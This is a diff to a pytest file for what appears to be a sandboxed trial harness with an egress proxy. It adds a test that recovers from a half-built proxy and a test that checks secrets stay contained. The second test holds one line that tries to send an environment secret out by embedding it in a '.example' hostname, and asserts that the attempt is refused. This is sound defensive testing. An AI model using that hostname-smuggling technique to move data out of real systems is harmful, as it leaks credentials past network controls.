@@ -8,6 +8,7 @@ import signal
 import socket
 import threading
 from collections.abc import Iterator
+from dataclasses import replace
 from typing import Any
 
 import pytest
@@ -28,9 +29,10 @@ from waiting import wait_until
 
 from labledger.docker.networks import Networks
 from labledger.egress.allowed_hosts import HOST_NAME
+from labledger.errors import EngineUnavailable
 from labledger.records.attempt_result import AttemptResult
-from labledger.trial.contract import AttemptSpec
-from labledger.trial.networks.phase_networks import network_config
+from labledger.trial.contract import AttemptSpec, Labels
+from labledger.trial.networks.phase_networks import network_config, proxy_of
 
 DONE = ("completed", None, 0)
 ALLOWED = {"network": "allowlist", "allowed_hosts": [HOST_NAME]}
@@ -265,12 +267,37 @@ def test_a_proxy_that_dies(trials: Trials, port: int) -> None:
     assert results[0].evidence[0]["ext"]["egress"]["agent"]["restarts"] == 2
 
 
+@pytest.mark.parametrize("left", ["network", "container"])
+def test_half_of_a_proxy(trials: Trials, port: int, left: str) -> None:
+    """What a coordinator left that died while it made a proxy is completed or replaced."""
+    spec = spec_of(trials, f"say(own=fetch({machine_url(port)!r}))")
+    proxy = proxy_of(spec, "agent")
+    assert proxy is not None
+    Networks(ENGINE).provide_internal(proxy.name, proxy.labels)
+    if left == "container":
+        labels = {**proxy.labels, Labels.HELPER: "egress"}
+        ENGINE.create(proxy.name, {"Image": PYTHON, "Entrypoint": ["true"], "Labels": labels})
+    result = run_attempt(spec)
+    assert said(trials, result, "agent") == {"own": GREETING.decode()}
+    assert trials.networks() == [proxy.name]
+    remove_attempt(spec)
+    assert (trials.containers(), trials.networks()) == ([], [])
+
+
+def test_secrets_in_names(trials: Trials) -> None:
+    """A secret that a trial asks for as a name is not in the evidence."""
+    secret = "s3cretvalue"
+    asks = "fetch('http://' + os.environ['SECRET'] + '.example/')"
+    spec = spec_of(trials, asks, environment={"KEY": secret})
+    spec.settings.phases["agent"].env["SECRET"] = "$KEY"
+    result = run_attempt(spec)
+    ((what, host),) = connections(result)
+    assert (what, host.endswith(".example")) == ("refused", True)
+    assert secret.encode() not in trials.everything(result)
+
+
 def test_without_its_image_no_trial_starts(trials: Trials) -> None:
     """Where the proxy's image is gone, the trial is not started with another network."""
-    from dataclasses import replace
-
-    from labledger.errors import EngineUnavailable
-
     spec = spec_of(trials, "")
     object.__setattr__(spec, "plan", replace(spec.plan, egress_image=None))
     with pytest.raises(EngineUnavailable, match="no image for the egress proxy"):
